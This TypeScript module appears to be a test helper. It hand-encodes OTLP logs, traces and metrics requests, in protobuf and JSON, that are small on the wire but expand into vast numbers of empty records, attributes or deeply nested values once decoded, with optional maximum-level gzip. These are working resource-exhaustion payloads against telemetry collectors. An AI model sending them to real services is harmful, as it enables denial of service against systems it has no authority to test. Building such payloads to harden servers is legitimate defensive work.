/**
 * OTLP request bodies built to expand: tiny on the wire, huge once decoded. Protobuf is written by hand
 * (tag, length, bytes) so that no encoder stands between the attack and the server.
 */
import { gzipSync } from 'node:zlib';

/** A protobuf varint. */
export function varint(n: number): Buffer {
  const out: number[] = [];
  let x = n;
  while (x >= 0x80) {
    out.push((x % 0x80) | 0x80);
    x = Math.floor(x / 0x80);
  }
  out.push(x);
  return Buffer.from(out);
}

/** A length-delimited field. */
export function field(no: number, payload: Buffer): Buffer {
  return Buffer.concat([varint(no * 8 + 2), varint(payload.length), payload]);
}

/** `n` copies of a 2-byte empty sub-message (field `no`, length 0). */
export function emptyRepeated(no: number, n: number): Buffer {
  const one = Buffer.from([no * 8 + 2, 0]);
  return Buffer.alloc(n * 2, one);
}

/** ExportLogsServiceRequest with `n` empty log records: 2 bytes each. */
export function emptyLogRecords(n: number): Buffer {
  return field(1, field(2, emptyRepeated(2, n)));
}

/** ExportTraceServiceRequest with `n` empty spans. */
export function emptySpans(n: number): Buffer {
  return field(1, field(2, emptyRepeated(2, n)));
}

/** ExportMetricsServiceRequest: one gauge with `n` empty data points. */
export function emptyGaugePoints(n: number): Buffer {
  const gauge = emptyRepeated(1, n);
  const metric = field(5, gauge);
  return field(1, field(2, field(2, metric)));
}

/** One log record whose single attribute is an array of `n` empty AnyValues (2 bytes each). */
export function hugeAttributeArray(n: number): Buffer {
  const array = emptyRepeated(1, n);
  const anyValue = field(5, array);
  const kv = Buffer.concat([field(1, Buffer.from('k')), field(2, anyValue)]);
  const record = field(6, kv);
  return field(1, field(2, field(2, record)));
}

/** One log record with `n` empty attributes (KeyValue) each 2 bytes. */
export function manyAttributes(n: number): Buffer {
  return field(1, field(2, field(2, emptyRepeated(6, n))));
}

/** A log body nested `depth` kvlist levels deep. */
export function deepKvlist(depth: number): Buffer {
  let v: Buffer = Buffer.alloc(0); // innermost AnyValue: empty
  for (let i = 0; i < depth; i++) {
    const kv = Buffer.concat([field(1, Buffer.from('k')), field(2, v)]);
    const kvlist = field(1, kv);
    v = field(6, kvlist);
  }
  const record = field(5, v);
  return field(1, field(2, field(2, record)));
}

/** A histogram point with `n` packed bucket counts (8 bytes each, zeros compress to nothing). */
export function packedBuckets(n: number): Buffer {
  const point = field(6, Buffer.alloc(n * 8));
  const histogram = field(1, point);
  const metric = field(9, histogram);
  return field(1, field(2, field(2, metric)));
}

/** OTLP/JSON logs with `n` empty records: 3 bytes each (`{},`). */
export function jsonEmptyRecords(n: number): Buffer {
  const head = '{"resourceLogs":[{"scopeLogs":[{"logRecords":[';
  const tail = '{}]}]}]}';
  return Buffer.concat([Buffer.from(head), Buffer.alloc((n - 1) * 3, '{},'), Buffer.from(tail)]);
}

/** OTLP/JSON logs whose body nests `depth` arrays: `[[[[...]]]]`. */
export function jsonDeepArrays(depth: number): Buffer {
  return Buffer.from(
    `{"resourceLogs":[{"scopeLogs":[{"logRecords":[{"body":${'{"arrayValue":{"values":['.repeat(depth)}${']}}'.repeat(depth)}}]}]}]}`,
  );
}

/** OTLP/JSON with an attribute array of `n` numbers: 2 bytes each. */
export function jsonNumberArray(n: number): Buffer {
  return Buffer.concat([
    Buffer.from('{"resourceLogs":[{"scopeLogs":[{"logRecords":[{"attributes":[{"key":"k","value":{"x":['),
    Buffer.alloc((n - 1) * 2, '1,'),
    Buffer.from('1]}}]}]}]}]}'),
  ]);
}

export const gzip = (b: Buffer): Buffer => gzipSync(b, { level: 9 });
